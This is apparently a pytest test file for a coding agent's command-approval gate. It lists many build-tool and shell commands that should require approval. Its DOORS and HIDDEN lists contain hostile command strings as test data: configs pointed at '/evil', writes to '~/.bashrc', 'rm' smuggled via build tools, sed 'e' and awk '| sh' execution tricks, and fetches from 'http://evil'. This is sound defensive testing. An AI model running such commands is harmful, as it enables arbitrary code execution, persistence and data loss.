"""What builds and tests runs the project's code unasked, and nobody else's, nor a program by its name."""

from __future__ import annotations

import pytest

from extensions.coder.approvals import decide
from tests.extensions.coder.doors import DOORS_ALLOW
from tests.extensions.coder.lines import ALL_DAY_ALLOW

ALLOW = [*ALL_DAY_ALLOW, *DOORS_ALLOW, "composer", "gradle", "./gradlew", "ctest", "ansible-playbook"]

DOORS = [
    "ansible all -m shell -a 'rm x'", "ansible localhost -a 'rm x'", "helm template . --post-renderer ./x",
    "helm install a . --post-renderer=./x", "helm plugin install ./x", "terraform -chdir=/evil apply",
    "terraform init -plugin-dir=/evil", "mvn exec:exec -Dexec.executable=rm -Dexec.args=x",
    "mvn -f /evil/pom.xml test", "mvn --file=/evil/pom.xml test", "mvn -s /evil/settings.xml test",
    "mvn org.codehaus.mojo:exec-maven-plugin:exec -Dexec.executable=rm", "mvn test -Djvm=./x",
    "gradle -I init.gradle", "gradle --init-script x.gradle test", "gradle -p /evil test",
    "gradle --project-dir=/evil test", "gradle -b x.gradle", "gradle --include-build /evil", "./gradlew -I x test",
    "./gradlew -p /evil test", "./gradlew --init-script=x test", 'rake -e \'system("rm x")\'', "rake --execute 'rm'",
    "rake -f evil.rb", "rake -r ./x", "rake -I /evil -r x", "rake --rakefile=evil", "rake -p 'system 1'",
    "rake -E 'x'", 'rails runner \'system("rm x")\'', "rails r 'x'", "rails console", "rails c", "rails dbconsole",
    "rails db -p", "composer exec rm", "composer global require x", "composer config scripts.test 'rm x'",
    "composer -d /evil install", "composer --working-dir=/evil install", "dotnet run --project /evil",
    "dotnet exec evil.dll", "dotnet evil.dll", "dotnet build /evil", "dotnet test /p:X=y", "dotnet script x",
    "dotnet fsi x", "cmake -E rm x", "cmake -E env rm x", "cmake -E time rm x", "cmake -E copy a b",
    "cmake -E touch a", "cmake -E tar xf x", "cmake -P evil.cmake", "cmake --build . -- SHELL=./x",
    "cmake -DCMAKE_C_COMPILER=./x .", "cmake -C evil.cmake .", "cmake --toolchain x .",
    "cmake --install . --prefix /x", "cmake --open x", "cmake -S /evil -B /x", "ninja -f evil.ninja",
    "ninja -C /evil", "bazel run //x", "bazel --bazelrc=/evil build", "bazel build --run_under='rm x' //x",
    "bazel test --run_under=./x //a", "bazel --output_base=/x build", "meson setup --native-file x b",
    "meson devenv rm x", "meson compile --ninja-args=x", "just --command rm x", "just -c rm x", "just --shell ./x",
    "just --justfile /evil x", "just -f /evil/justfile", "just -d /evil", "just --set x '$(rm)'",
    "just --chooser ./x --choose", "just --edit", "just --init", "task -t /evil/Taskfile.yml",
    "task --taskfile=/evil x", "task -d /evil", "task --init", "task -g x", "gulp --gulpfile /evil/x.js",
    "gulp --require ./x", "gulp -f x", "grunt --gruntfile /evil", "grunt --base /evil", "grunt --tasks /evil",
    "webpack -c /evil.js", "webpack --config=/evil/x.js", "vite -c /evil.js", "vite build --outDir /x",
    "vite build --config /evil.ts", "rollup -c /evil.js", "rollup -o ~/.bashrc a.js", "rollup --plugin /evil a",
    "esbuild a.js --outfile=/x", "turbo run x --cwd=/evil", "nx exec -- rm x", "lerna exec rm x",
    "lerna exec -- rm x", "lerna run x --npm-client=./x", "pre-commit try-repo http://evil",
    "pre-commit run -c /evil.yaml", "pre-commit install", "pre-commit autoupdate", "vitest --config /evil.ts",
    "vitest --globalSetup ./x", "jest --globalSetup=/evil", "jest --config=/evil", "jest --rootDir /evil",
    "jest --testRunner=./x", "jest --transform='{}' --runner ./x", "jest --outputFile=/home/.bashrc",
    "jest --setupFiles ./x", "eslint -c /evil.js a", "eslint --config /evil.js a", "eslint --parser /evil a",
    "eslint --plugin /evil a", "eslint -f /evil a", "prettier --config /evil a", "mocha --config=/evil",
    "mocha --node-option require=./x", "tsc -p /evil", "tsc --project /evil", "tsc --build /evil",
    "tsc -w --generateTrace /x", "pytest -c /evil.ini", "pytest --rootdir=/evil", "pytest --confcutdir=/evil",
    "pytest -opythonpath=/evil", "pytest /evil/test_x.py", "pytest --pdbcls=evil:X", "pytest --debug=/x",
    "pytest --cov-report=html:/x", "pytest --doctest-modules /evil", "pytest --rsyncdir=/x",
    "pytest --tx 'popen//python=rm'", "pytest --dist=each --tx=popen//python=./x", "pytest -n 2 --rsyncdir /",
    "tox exec -- rm x", "tox devenv /x", "coverage run /evil.py", "coverage html -d /x", "coverage xml -o ~/.bashrc",
    "coverage report --rcfile=/evil", "coverage run --rcfile=/evil a.py", "alembic -c /evil.ini upgrade head",
    "flask --app /evil run", "django-admin startproject x /y", "django-admin runserver --pythonpath=/evil",
    "django-admin shell_plus", "mix do eval 'x'", "mix archive.install x", "mix escript.install x",
    "stack ghc -- -e x", "stack --stack-yaml /evil test", "cabal v2-exec rm x", "cabal new-run", "cabal v2-repl",
    "zig build --build-file /evil", "zig build-exe x -femit-bin=/x", "swift build --package-path /evil",
    "swift test -C /evil", "swift package plugin x", "julia --project=/evil a.jl", "julia -J evil.so a.jl",
    "julia --sysimage x a.jl", "openssl ca -config x", "openssl req -config x", "rsync --log-file=~/.bashrc a b",
    "rsync --backup-dir=/x a b", "rsync -M--rsh=x a b", "rsync --remote-option=--x a b", "rsync --daemon --config=x",
    "rsync --write-batch=x a b", "ctags --_echo=x", "ctags -L - --options-maybe=x", "black --config /evil a",
    "isort --settings-file=/evil a", "conda env update -f http://x", "conda install evil -c http://evil",
    "systemctl link /evil.service", "systemctl --host=evil x", "apt-get -o APT::Update::Pre-Invoke::='rm x' update",
    "apt -o Dpkg::Pre-Invoke::=id install x", "apt -c=/evil.conf update", "apt-get --config-file=x update",
    "brew sh", "brew ruby -e x", "brew edit x", "brew irb", "brew bundle exec rm x", "brew exec rm x", "ip -b x",
    "ip -batch x", "convert 'ephemeral:x' b", "convert msl:x.msl b", "convert '|rm x' b", "convert a '|sh'",
    "pipenv shell", "hatch shell", "hatch env run rm x", "rustup run nightly rm x", "rustup toolchain link x /evil",
    "rustup default /evil", "rustup self update", "source /tmp/evil.sh", "source ~/evil.sh", "bash /tmp/evil.sh",
    "bash ~/evil.sh", "python /tmp/evil.py", "python ~/evil.py", "node /tmp/evil.js",
    "python -m pytest --rootdir=/evil", "pytest --debug=/home/.bashrc", "pytest --cov-config=/evil",
    "pytest --cov-report=xml:/home/.bashrc", "pytest --report-log=/home/.bashrc", "pytest --html=/home/.bashrc",
    "pytest --resultlog=/home/.bashrc", "pytest --store-durations --durations-path=/home/.bashrc",
     "node --experimental-sea-config x", "node --test-reporter=./evil.js --test",
    "node --test-reporter-destination=/home/.bashrc --test", "node --test --test-global-setup=./x",
    "node --snapshot-blob=x a", "node --env-file-if-exists=x a", "node --experimental-config-file=x a",
    "node --heapsnapshot-signal=x a", "npm i foo@file:/evil", "npm i foo@github:x/y", "yarn add foo@file:/evil",
    "pnpm add link:/evil", "cargo evil", "cargo fmt -- --config-path /evil", "cargo vendor /home",
    "cargo nextest run --config-file /evil", "cargo watch -x 'rm'", "cargo watch -s 'rm y'",
    "cargo make --makefile evil", "cargo xtask x", "cargo miri run", "cargo new /evil", "cargo init /evil",
    "cargo generate evil", "cargo binstall evil", "cargo llvm-cov --html --output-dir /home", "go test /evil/...",
    "go build /evil", "go test -test.outputdir=/home", "go test -test.cpuprofile=/home/.bashrc",
    "go test -fuzz=x -test.fuzzcachedir=/home", "go version /evil", "git sh-setup", "git sh-i18n",
    "git annex x", "git flow init", "git evil", "git foo", "git backfill", "git refs migrate",
]  # fmt: skip

FEW = ["sed", "awk", "make", "sort", "go build", "git status", "git diff"]
TEXTS = [
    "sed 's/\\//_/g' a", "sed '1~2d' a", "sed -n '/x/{=;p}' a", "sed '1i header' a", "sed 's/;/\\n/g' a", "sed '$!d' a",
    "sed 's/[[:space:]]*$//' a", "sed 's/[a-z_]*=[0-9]/x/' a", "sed 's/x[^,]*,/y/' a", "sed -n '/^[^#]/p' a",
    "sed ':a;N;$!ba;s/\\n/ /g' a", "sed '/x/a more' a", "sed -n '/x/{s/a/b/;p}' a", "sed '10q;s/a/b/' a",
    "awk '/a|b/' a", "awk '$1 ~ /a|b/ {print $2}' a", "awk '/x/ {print \"a/b\"}' a", "awk '!/a|b/' a",
    "make test TEST=tests/test_a.py", "make test ARGS='-k foo -x'", "GOOS=linux GOARCH=arm64 go build ./...",
    "git -C sub status", "git --no-pager diff HEAD", "git --no-pager -C sub diff", "sort -t$'\\t' -k2 a",
    "make -f Makefile test", "make --file=Makefile", "make -kf makefile",
]  # fmt: skip
HIDDEN = [
    "sed '1e rm x' a", "sed 's/[/]/p;s/e;/Y/g' a", "sed '1i\\\ne rm x' a", "sed 's/a/b/\ne' a", "sed '/[/]/e;/p' a",
    "sed ':a e rm' a", "sed 's/a\\/b/e;x/e' a", "sed '{e rm\n}' a", "sed '1i x\ne rm' a", "sed 's/a/b/ w f' a",
    "sed 'y/a/b/' a", "awk '/x/ {print | \"sh\"}' a", "awk '{x = 1 / 2; print | \"sh\"; y = 3 / 4}' a",
    "awk '{if (x) /\"/; y = \"{/\"; print | \"sh\"; z = \"/\"}' a", "awk '{print \"{ /\" | \"sh\" \"/\"}' a",
    "awk '# \"\n{print | \"sh\"} # \"' a", "awk '{y = \\\n/ 2; print | \"sh\"; z = 3 / 1}' a", "awk '/a/ | getline' a",
    "sed 's/[]/]/p;s/e;/Y/g' a", "sed 's/[[:alpha:]/]/p;s/e;/Y/g' a", "sed 's/[^]/]/p;s/e;/Y/g' a",
    "sed 's/[[=a=]/]/p;s/e;/Y/g' a", "sed 's/[\\/]/p;s/e;]/Y/g' a", "sed '/[]/]/e;/p' a", "make PY=./x",
    "make X=.git/x",
    "make RUN=rm", "make CMD='rm x'", "make ARGS='rm x'", "make X=/evil/a", "make X=a/../../b", "make LDFLAGS='-B x'",
    "git -C sub push", "git --no-pager log", "git -C sub -c a.b=c status",
    "git -C status log", "git --exec-path=x status",
    "make -f evil.mk", "make -kfevil.mk", "make --fil=evil", "make --makefile evil", "make -f - x", "make -nf ../x",
]  # fmt: skip

EVERYDAY = [
    "pytest -q tests/a.py::test_b[x-1]", "pytest -p no:cacheprovider", "pytest -c pytest.ini -o log_cli=true",
    "pytest --cov=src --cov-report=term-missing", "pytest --rootdir=. -n auto", "pytest /tmp/x/test_a.py",
    'python -m pytest -k "a and not b" tests', "jest src/a.test.ts --coverage",
    "jest --config jest.config.js --testEnvironment=jsdom", "vitest run src/a.test.ts",
    'eslint "src/**/*.ts" -f json', "prettier --check .", "mocha -r ts-node/register test/*.ts",
    "tsc -p tsconfig.build.json --noEmit", "webpack --config webpack.prod.js --mode production",
    "vite build --base=/app/", "esbuild src/a.ts --bundle --outfile=dist/a.js", "gradle -q tasks",
    './gradlew test --tests "com.foo.BarTest" -x lint', "./gradlew :app:test -Pfast=1", "./gradlew -p sub test",
    "mvn -q test -Dtest=FooTest#bar", "mvn -pl module -am clean install -DskipTests",
    "mvn -f sub/pom.xml verify -P ci", "rake test TEST=test/a_test.rb", "rake -T", "rails db:migrate RAILS_ENV=test",
    "rails test test/models", "composer install --no-interaction", "composer test",
    'dotnet test --filter "Name~Foo" -v q', "dotnet build Foo.sln -p:Configuration=Release",
    "cmake -B build -S . -DCMAKE_BUILD_TYPE=Debug -G Ninja", "cmake --build build -j4 --target test",
    "mkdir -p build && cd build && cmake .. && make", "cmake -DCMAKE_C_COMPILER=clang ..",
    "ctest --test-dir build --output-on-failure", "ninja -C build test", "bazel test //a/... --test_output=errors",
    "meson setup build && meson test -C build", "just test", "just --list", "task build", "gulp build",
    "nx run-many --target=test", "lerna run test --scope=a", "turbo run build --filter=a",
    "pre-commit run --all-files", "tox -e py311 -- -k x", "nox -s tests",
    "coverage run -m pytest && coverage html -d out", "flask --app app run --port 5000",
    "mix test test/a_test.exs:12", "stack test --fast", "cabal test all", "zig build test",
    "swift test --filter Foo", "helm template . -f values.yaml", "terraform plan -out=plan.out -var x=1",
    "terraform -chdir=infra plan", "ansible-playbook site.yml --check", "cargo test --manifest-path sub/Cargo.toml",
    "cargo nextest run", "cargo clippy --all-targets -- -D warnings", "cargo fmt --check", "cargo tree -i serde",
    "go test ./... -run TestFoo/sub -count=1", "go test -run '^/x$' ./...", "go build -o bin/a ./cmd/a",
    "git show-branch", "git verify-tag v1", "git check-ref-format --branch x", "node --test-reporter=spec --test",
    "node --test --test-reporter spec",
    "bash scripts/a.sh", "sh ./a.sh", "source .venv/bin/activate && pytest",
    "source ~/.bashrc; make", "python scripts/a.py ../data", "cd sub && python ../scripts/a.py",
    "java -cp target/classes com.foo.Main", "java -jar target/a.jar --help", "rsync -av src/ out/", "ip -br a",
    "rustup show", "rustup toolchain list", "systemctl status x", "openssl x509 -in a.pem -noout -text",
    "git diff --name-only | xargs -r ruff check", "for i in 1 2; do npm test || break; done", "npm test || exit 1",
]  # fmt: skip

INSIDE = [
    "make -C /workspace/sub", "make -C/workspace/sub test", "make --directory=/workspace/sub",
    "pytest /workspace/tests",
    "cargo test --manifest-path=/workspace/sub/Cargo.toml", "bash /workspace/a.sh",
    "timeout 5 pytest /workspace/tests", 'bash -c "make -C /workspace/sub"', "python /workspace/a.py",
    "npm install /workspace/packages/a", "go build -o /workspace/bin/a ./cmd/a", "uv run pytest /workspace/tests",
]  # fmt: skip
BESIDE = [
    "make -C /workspacex", "make -C /workspace/../x", "pytest /workspaces", "bash /workspace/../a.sh",
    "npm --prefi=/workspacex test", "npm --prefix /workspace/../x test", "make -C /elsewhere/workspace",
]  # fmt: skip


@pytest.mark.parametrize("line", DOORS)
def test_what_builds_or_tests_opens_none_of_its_doors(line: str) -> None:
    assert decide(line, ALLOW, ["git push"]) == "ask"


@pytest.mark.parametrize("line", EVERYDAY)
def test_a_days_building_and_testing_is_not_asked_about(line: str) -> None:
    assert decide(line, ALLOW, ["git push"]) == "approve"


@pytest.mark.parametrize("line", TEXTS)
def test_what_only_prints_is_not_asked_about_whatever_it_looks_for(line: str) -> None:
    assert decide(line, FEW, ["git push"]) == "approve"


@pytest.mark.parametrize("line", HIDDEN)
def test_what_hides_in_a_script_is_asked_about(line: str) -> None:
    assert decide(line, FEW, ["git push"]) != "approve"


@pytest.mark.parametrize("line", INSIDE)
def test_a_place_in_the_workspace_may_be_named_from_the_top(line: str) -> None:
    assert decide(line, ALLOW, ["git push"], ["/workspace"]) == "approve"
    assert decide(line, ALLOW, ["git push"]) == "ask"


@pytest.mark.parametrize("line", BESIDE)
def test_a_place_beside_the_workspace_is_none_in_it(line: str) -> None:
    assert decide(line, ALLOW, ["git push"], ["/workspace"]) == "ask"
